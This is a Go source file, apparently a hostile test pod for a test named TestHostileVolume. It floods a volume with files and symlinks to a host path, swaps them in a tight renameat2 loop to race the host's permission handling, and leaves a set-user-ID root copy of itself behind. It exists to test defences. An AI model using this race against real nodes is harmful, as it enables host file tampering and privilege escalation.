// Command swap is a pod that means harm to the node it runs on, for TestHostileVolume. `swap attack VOLUME TARGET` fills
// a volume with files and with links to a path of the host's, and exchanges them for as long as it lives; it leaves a
// copy of itself there that is set-user-ID root. `swap who` says as whom it runs.
package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

func main() {
	var err error
	switch {
	case len(os.Args) == 2 && os.Args[1] == "who":
		fmt.Println(os.Geteuid())
	case len(os.Args) == 4 && os.Args[1] == "attack":
		err = attack(os.Args[2], os.Args[3])
	default:
		err = errors.New("usage: swap who | swap attack VOLUME TARGET")
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

const pairs = 300

func attack(volume, target string) error {
	if err := leaveProgram(filepath.Join(volume, "su")); err != nil {
		return err
	}
	for i := range pairs {
		file := filepath.Join(volume, fmt.Sprintf("f%d", i))
		if err := errors.Join(os.WriteFile(file, nil, 0o600), os.Chmod(file, 0o777), os.Symlink(target, file+"-link")); err != nil {
			return err
		}
	}
	fmt.Println("ready")
	for {
		for i := range pairs {
			file := filepath.Join(volume, fmt.Sprintf("f%d", i))
			for range 40 {
				if err := unix.Renameat2(unix.AT_FDCWD, file, unix.AT_FDCWD, file+"-link", unix.RENAME_EXCHANGE); err != nil {
					return err
				}
			}
		}
	}
}

func leaveProgram(path string) error {
	in, err := os.Open("/proc/self/exe")
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_EXCL, 0o755)
	if err != nil {
		return err
	}
	_, err = io.Copy(out, in)
	return errors.Join(err, out.Close(), os.Chmod(path, 0o755|os.ModeSetuid))
}
